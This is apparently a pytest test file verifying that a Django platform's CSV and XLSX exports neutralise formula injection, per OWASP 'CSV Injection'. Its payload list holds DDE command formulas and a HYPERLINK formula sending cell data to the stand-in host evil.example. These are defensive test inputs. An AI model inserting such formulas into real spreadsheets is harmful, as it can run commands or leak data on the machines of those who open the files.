"""No CSV or XLSX the platform writes carries a live formula (issue 13 item 4, OWASP
"CSV Injection"): text beginning with = + - @, tab or CR is written with a leading single
quote, in every exporter — the open-data CSV, the key-area list, the rejected rows and
the upload templates. A new exporter must use `xinjian.core.spreadsheets` (checked below)."""

from __future__ import annotations

import ast
import csv
import datetime as dt
import io
from pathlib import Path

import pytest
from django.urls import reverse
from freezegun import freeze_time
from openpyxl import load_workbook

from xinjian.core.spreadsheets import FORMULA_TRIGGERS, is_live, neutralise, restore

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _xlsx_cells(content: bytes) -> list[tuple[str, object]]:
    """(data type, value) of every cell of every sheet, as a spreadsheet program sees it."""
    wb = load_workbook(io.BytesIO(content))
    return [(c.data_type, c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row]


def _assert_no_live_xlsx(content: bytes) -> list[object]:
    cells = _xlsx_cells(content)
    assert not [v for t, v in cells if t == "f"], "a cell was written as a formula"
    assert not [v for _t, v in cells if is_live(v)]
    return [v for _t, v in cells]


def _defused(payloads: list[str]) -> set[str]:
    """As read back from XLSX: XML turns a carriage return into a line feed."""
    return {("'" + p).replace("\r", "\n") for p in payloads}


def test_neutralise_prefixes_only_text_a_spreadsheet_would_evaluate():
    for p in PAYLOADS:
        assert neutralise(p) == "'" + p and not is_live(neutralise(p)) and restore(neutralise(p)) == p
    for harmless in ("深圳市华科食品有限公司", "A=1", "", "'quoted", -5, 3.5, None, dt.date(2025, 1, 1)):
        assert neutralise(harmless) == harmless
    assert set(FORMULA_TRIGGERS) == {"=", "+", "-", "@", "\t", "\r"}


@freeze_time("2025-06-01 04:00:00")
def test_open_data_csv_keeps_no_live_formula(enterprise_factory, settings, tmp_path):
    import json

    from xinjian.collection.models import Penalty
    from xinjian.core.actors import SYSTEM
    from xinjian.disclosure.exports import export_dir, export_open_data

    settings.VAR_DIR = tmp_path
    for n, payload in enumerate(PAYLOADS):
        e = enterprise_factory(name=payload, legal_representative=payload)
        Penalty.objects.create(
            enterprise=e,
            uscc=e.uscc,
            source="test",
            source_id=f"INJ-{n}",
            decision_no=f"深市监罚〔2025〕{n + 1}号",
            decided_on=dt.date(2025, 1, 6),
            published_on=dt.date(2025, 1, 10),
            decided_by="深圳市市场监督管理局",
            domain="food_safety",
            violation=payload,
            penalty_types=["fine"],
            fine_amount=50000,
            status="in_force",
        )
    export_open_data(dt.date(2025, 6, 1), actor=SYSTEM)
    folder = export_dir(dt.date(2025, 6, 1))
    with (folder / "penalties.csv").open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert len(rows) == 1 + len(PAYLOADS)
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if is_live(c)]
    names = {row[rows[0].index("enterprise_name")] for row in rows[1:]}
    assert names == {"'" + p for p in PAYLOADS}  # the text is kept, only defused
    # JSON Lines is not a spreadsheet format: it carries the values as they are.
    jsonl = (folder / "penalties.jsonl").read_text(encoding="utf-8").splitlines()
    assert {json.loads(x)["enterprise_name"] for x in jsonl} == set(PAYLOADS)


def test_key_area_xlsx_writes_names_as_text_not_formulas(
    client, county_officer, enterprise_factory, licence_factory
):
    from xinjian.collection.tagging import apply_licence_changes
    from xinjian.core.actors import Actor

    lics = [licence_factory(enterprise_factory(name=p, legal_representative=p)) for p in PAYLOADS]
    apply_licence_changes(lics, actor=Actor("t"), on=dt.date(2025, 1, 1))
    client.force_login(county_officer)
    r = client.get(reverse("registry:key_area_export"))
    assert r.status_code == 200
    values = _assert_no_live_xlsx(b"".join(r.streaming_content))
    assert _defused(PAYLOADS) <= set(values)


@freeze_time("2024-11-20 10:00:00")
def test_rejected_rows_xlsx_defuses_what_was_sent_and_reads_back_as_sent(
    client, county_officer, enterprise_factory
):
    from xinjian.collection.ingest.files import read_file
    from xinjian.collection.ingest.kinds import get_kind
    from xinjian.collection.models import IngestBatch

    ent = enterprise_factory()
    buf = io.StringIO()
    w = csv.writer(buf)
    w.writerow(["来源编号", "统一社会信用代码", "决定书文号", "处罚决定日期", "处罚机关", "领域"])
    for n, p in enumerate(PAYLOADS):
        # no such domain: every row is rejected and comes back in the rejects file
        w.writerow([f"X-{n}", ent.uscc, p, "2024-01-02", p, p])
    f = io.BytesIO(buf.getvalue().encode("utf-8"))
    f.name = "inj.csv"
    client.force_login(county_officer)
    assert client.post(reverse("collection:upload"), {"kind": "penalties", "file": f}).status_code == 302
    batch = IngestBatch.objects.get()
    client.post(reverse("collection:confirm", args=[batch.pk]), {"action": "import"})
    batch.refresh_from_db()
    assert batch.rejected_count == len(PAYLOADS)
    download = client.get(reverse("collection:rejects", args=[batch.pk]))
    values = _assert_no_live_xlsx(download.content)
    assert _defused(PAYLOADS) <= set(values)
    # fixed in place and uploaded again, the cells are read as the officer sent them
    again = list(read_file(get_kind("penalties"), io.BytesIO(download.content), "rejects.xlsx").records)
    assert sorted(r["decision_no"] for r in again) == sorted(p.strip() for p in PAYLOADS)


def test_upload_templates_hold_no_live_formula(client, county_officer):
    from xinjian.collection.ingest.kinds import KINDS

    client.force_login(county_officer)
    for name in KINDS:
        r = client.get(reverse("collection:template", args=[name]))
        assert r.status_code == 200
        _assert_no_live_xlsx(r.content)


WRITERS = ("csv.writer", "csv.DictWriter", "Workbook(")


def test_every_module_that_writes_a_spreadsheet_uses_the_shared_neutraliser():
    """A new exporter cannot forget the rule: any module under xinjian/ that creates a CSV
    writer or an openpyxl workbook must import from xinjian.core.spreadsheets."""
    root = Path(__file__).resolve().parent.parent / "xinjian"
    offenders = []
    for path in root.rglob("*.py"):
        if "tests" in path.parts or "migrations" in path.parts or path.name == "spreadsheets.py":
            continue
        if path.parent.name == "data" and path.name.startswith("make_"):
            # A maintainer's script that rebuilds packaged reference data (GB/T 2260) from
            # published sources: it writes our own input file, never an export of what users entered.
            continue
        text = path.read_text(encoding="utf-8")
        if not any(w in text for w in WRITERS):
            continue
        imports = {
            node.module
            for node in ast.walk(ast.parse(text))
            if isinstance(node, ast.ImportFrom) and node.module
        }
        if "xinjian.core.spreadsheets" not in imports:
            offenders.append(str(path.relative_to(root.parent)))
    assert offenders == []
